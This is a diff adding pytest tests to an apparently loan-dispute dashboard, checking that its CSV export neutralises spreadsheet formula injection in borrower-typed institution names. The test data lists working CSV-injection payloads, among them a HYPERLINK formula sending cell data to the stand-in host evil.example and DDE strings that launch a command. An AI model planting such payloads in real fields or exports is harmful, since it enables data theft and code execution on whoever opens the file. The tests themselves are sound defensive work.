@@ -91,6 +91,44 @@ def test_csv_of_a_table_has_a_header_and_its_rows(ctx, portfolio):
     assert text[0] == "stage,disputes" and len(text) == 3
 
 
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "＝HYPERLINK(\"https://evil.example\")"]
+
+
+def test_institutions_typed_as_formulas_reach_the_csv_as_text(ctx):
+    """Issue 19, finding 3: a borrower-typed institution must not become a spreadsheet formula.
+    Text cells that a spreadsheet would evaluate start with a single quote; numbers stay
+    numbers."""
+    import csv
+    import io
+
+    borrower = make_user(ctx)
+    staff = make_user(ctx, Role.STAFF, email="staff@example.com")
+    for institution in FORMULAS:
+        cases.file_dispute(ctx, borrower, filing_form(institution=institution))
+    text = dashboard.build_dashboard(ctx, staff).top_institutions.to_csv()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["institution", "disputes", "open"]
+    cells = {row[0] for row in rows[1:]}
+    assert len(cells) == len(FORMULAS)
+    for cell in cells:
+        assert cell.startswith("'") and cell[1:] in FORMULAS, cell
+    assert all(row[1:] == ["1", "1"] for row in rows[1:])
+
+
+def test_only_text_cells_are_neutralised():
+    """Tab, carriage return and leading spaces (which filing strips, but a table may hold)."""
+    table = dashboard.Table(("name", "change", "share", "on"),
+                            (("-5", -5, -0.25, date(2026, 11, 22)), ("招商银行", 3, 0.5, None),
+                             ("", 0, 1.0, None), ("\t=1+1", 1, 1, None),
+                             ("  =1+1", 1, 1, None), ("a=b-c", 1, 1, None)))
+    assert table.to_csv().splitlines() == ["name,change,share,on", "'-5,-5,-0.25,2026-11-22",
+                                           "招商银行,3,0.5,", ",0,1.0,", "'\t=1+1,1,1,",
+                                           "'  =1+1,1,1,", "a=b-c,1,1,"]
+    assert dashboard.Table(("x",), (("\r=1+1",),)).to_csv() == "x\r\n\"'\r=1+1\"\r\n"
+
+
 def test_borrowers_and_admins_do_not_see_the_dashboard(ctx, portfolio):
     borrower = make_user(ctx, email="b2@example.com")
     with pytest.raises(Forbidden):
